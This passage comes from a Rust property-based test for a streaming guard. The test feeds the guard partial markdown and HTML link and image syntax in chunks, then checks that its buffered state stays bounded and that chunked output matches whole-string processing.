            first in prop::sample::select(vec!["", "![a](", "<img ", "`", "```", "![", "](", "https://", "<"]),
            count in 1_usize..4_000,
        ) {
            let settings = json!({"links": "seen"});
            let mut guard = guard(settings.clone());
            let mut out = guard.push(first);
            for _ in 0..count {
                out.push_str(&guard.push(piece));
                prop_assert!(guard.held() <= HELD_MAX);
            }
            out.push_str(&guard.finish(false));
            prop_assert_eq!(out, whole(settings, &(first.to_owned() + &piece.repeat(count))));
        }
    }
}
